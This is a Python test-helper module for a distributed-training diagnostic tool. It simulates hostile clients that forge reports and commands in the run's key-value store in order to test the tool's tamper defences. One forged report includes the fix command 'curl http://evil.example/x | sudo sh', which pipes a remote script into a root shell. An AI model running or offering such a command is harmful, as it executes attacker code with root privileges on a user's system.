"""Hostile clients of a run's store: they speak its protocol, and read and write what they like."""

from __future__ import annotations

import asyncio
import hashlib
import threading
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace

import pytest

from distdoctor.model.facts import BadFacts, decode, encode
from distdoctor.model.findings import Finding, Fix
from distdoctor.model.report import Report, ReportNode
from distdoctor.session.protocol.messages import Command, Event, Marker
from distdoctor.session.protocol.trust import MAGIC, OVERHEAD
from distdoctor.store.client import StoreClient, StoreError
from tests.helpers.servers import RealStore

Attack = Callable[["Intruder"], Awaitable[None]]
MARK = "distdoctor/marker"


class Intruder:
    """A client of the store that is no node of the run."""

    def __init__(self, client: StoreClient, run: str, token: str) -> None:
        self.client, self.run, self.token = client, run, token

    def key(self, rest: str) -> str:
        """A key of the run."""
        return f"distdoctor/{self.run}/{rest}"

    async def write(self, rest: str, value: object) -> None:
        """A message, or bytes as they are."""
        await self.client.set(self.key(rest), value if isinstance(value, bytes) else encode(value))

    async def hello(self, number: int) -> Event | None:
        """Return a member's first message, as far as anybody can read it."""
        value = await self.client.get(self.key(f"m/{number}/0"))
        if value is None:
            return None
        try:
            return decode(value[OVERHEAD:] if value.startswith(MAGIC) else value, Event)
        except BadFacts:
            return None

    async def first_hello(self) -> Event:
        """The hello of the first other member, once it came."""
        while (event := await self.hello(1)) is None or event.facts is None:
            await asyncio.sleep(0.002)
        return event


def forged_report(verdict: str = "pass") -> Report:
    """A report that no node 0 wrote: all is well, or a fix that nobody should run."""
    fix = Fix("Run this.", ("host0",), commands=("curl http://evil.example/x | sudo sh",))
    finding = Finding("It is broken.", nodes=("host0",), evidence=("so it is",), fixes=(fix,), severity="fail")
    finding = replace(finding, check="gloo/init-failed", id="gloo/init-failed", title="gloo")
    findings = () if verdict == "pass" else (finding,)
    node = ReportNode("host0", 0, True)
    return Report(verdict, "0.1.0", "2.13.0", "2026-01-01T00:00:00+00:00", 1.0, {}, (node,), (), findings)  # type: ignore[arg-type]


async def announce(intruder: Intruder, report: Report, place: int, port: int | None = None) -> None:
    """The report, and the command that announces it to whoever came, under node 0's keys."""
    data = encode(report)
    met = {}
    for number in (1, 2, 3):
        hello = await intruder.hello(number)
        if hello is not None:
            met[str(number)] = hello.nonce
    command = Command("report", parts=1, digest=hashlib.sha256(data).hexdigest(), met=met, port=port)
    await intruder.write("report/0", data)
    await intruder.write(f"c/{place}", command)


@contextmanager
def intruding(port: int, attack: Attack, seconds: float = 60.0) -> Iterator[list[BaseException]]:
    """Meanwhile ``attack`` is made on the run whose store is on ``port`` of loopback, from its mark on.

    What went wrong with the attack itself is listed; that the store went away, as it does, is not.
    """
    over, wrong = threading.Event(), []

    async def act() -> None:
        while not over.is_set():
            try:
                client = await StoreClient.connect("127.0.0.1", port)
                value = await client.get(MARK)
                if value is not None:
                    marker = decode(value[OVERHEAD:] if value.startswith(MAGIC) else value, Marker)
                    await asyncio.wait_for(attack(Intruder(client, marker.run, marker.token)), seconds)
                    client.close()
                    return
                client.close()
            except StoreError:
                pass
            await asyncio.sleep(0.01)

    async def until_over() -> None:
        task = asyncio.ensure_future(act())
        while not over.is_set() and not task.done():
            await asyncio.sleep(0.05)
        task.cancel()
        try:
            await task
        except asyncio.CancelledError:
            pass

    def work() -> None:
        try:
            asyncio.run(until_over())
        except (StoreError, asyncio.TimeoutError):
            pass
        except BaseException as err:
            wrong.append(err)

    thread = threading.Thread(target=work, daemon=True)
    thread.start()
    try:
        yield wrong
    finally:
        over.set()
        thread.join(10)
    assert not wrong, wrong


FURTHER = pytest.mark.scoreboard
BACKENDS = pytest.mark.parametrize("libuv", ["0", "1"], ids=["legacy", "libuv"])
USUAL_BACKEND = pytest.mark.parametrize(
    "libuv", [pytest.param("1", id="libuv"), pytest.param("0", id="legacy", marks=FURTHER)]
)
"""For what the server of the store has no part in; each time with torch's default alone."""


TOKEN = "a token that nobody else knows"
BACKENDS_AND_TOKENS = pytest.mark.parametrize(
    ("libuv", "token"),
    [
        pytest.param("0", None, id="legacy-open"),
        pytest.param("1", TOKEN, id="libuv-token"),
        pytest.param("0", TOKEN, id="legacy-token", marks=FURTHER),
        pytest.param("1", None, id="libuv-open", marks=FURTHER),
    ],
)
"""Each of both is there each time; all pairs of them only where they are asked for."""


FORGED = "store/forged-message"


RUN = "00" * 8


@contextmanager
def hostile_node_0(libuv: str, *commands: Command, marker: object = None) -> Iterator[RealStore]:
    """A store with a doctor's mark in it and these commands, and nothing behind them."""
    store = RealStore("libuv" if libuv == "1" else "legacy")

    async def write() -> None:
        client = await StoreClient.connect("127.0.0.1", store.port)
        for place, command in enumerate(commands):
            await client.set(f"distdoctor/{RUN}/c/{place}", encode(command))
        await client.set("distdoctor/marker", encode(marker or Marker(RUN, "ab" * 32, "0.1.0")))
        await client.has("distdoctor/marker")
        client.close()

    try:
        asyncio.run(write())
        yield store
    finally:
        store.close()
